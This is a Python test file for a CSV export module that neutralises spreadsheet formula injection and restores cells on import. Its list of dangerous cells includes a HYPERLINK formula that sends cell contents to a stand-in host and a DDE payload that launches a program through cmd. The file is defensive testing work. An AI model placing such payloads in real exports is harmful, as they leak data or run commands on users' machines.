"""CSV formula injection: one writer for every export neutralises cells a spreadsheet would run, and the
readers our imports use take the added quote off again (issue 16, integrity of the record)."""

from __future__ import annotations

import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from peaceops.core import csvsafe

DANGEROUS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "'=1+1", "''@x"]


def test_cells_a_spreadsheet_would_run_get_a_leading_quote():
    for value in DANGEROUS:
        written = csvsafe.neutralise(value)
        assert written == "'" + value and csvsafe.restore(written) == value


def test_plain_numbers_and_ordinary_text_are_left_as_they_are():
    for value in ["-12", "+4.5", "-38.1234", "1e-3", "2020-11-21", "Stepanakert", "Ստեփանակերտ", "", "'quoted'",
                  -200, 3.5, None]:
        assert csvsafe.neutralise(value) == value and csvsafe.restore(value) == value


@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r a1.,\"\n"), max_size=8), min_size=1,
                         max_size=4), min_size=1, max_size=4))
def test_round_trip_through_the_writer_and_reader(rows):
    out = io.StringIO()
    csvsafe.writer(out).writerows(rows)
    for row in csv_rows(out.getvalue()):
        for cell in row:
            bare = cell.lstrip("'")
            assert not bare.startswith(csvsafe.TRIGGERS) or cell.startswith("'") or re.fullmatch(r"[+-][\d.]+", cell)
    assert list(csvsafe.reader(io.StringIO(out.getvalue()))) == rows


def csv_rows(text: str) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(text)))


def test_dict_writer_and_reader():
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["name", "notes"])
    writer.writeheader()
    writer.writerow({"name": "=Aram", "notes": "-dash"})
    assert out.getvalue().splitlines()[1] == "'=Aram,'-dash"
    assert list(csvsafe.DictReader(io.StringIO(out.getvalue()))) == [{"name": "=Aram", "notes": "-dash"}]


def test_every_csv_in_peaceops_goes_through_csvsafe():
    """The one writer: no module writes or reads CSV with the bare csv module."""
    root = Path(__file__).resolve().parents[2] / "peaceops"
    bare = re.compile(r"\bcsv\.(writer|DictWriter|reader|DictReader)\(")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.name != "csvsafe.py" and bare.search(path.read_text(encoding="utf-8"))]
    assert offenders == []


def test_the_reader_restores_only_cells_it_quoted():
    rows = list(csvsafe.reader(io.StringIO("O'Brien,'=1+2,''=x,'plain\n")))
    assert rows == [["O'Brien", "=1+2", "'=x", "'plain"]]
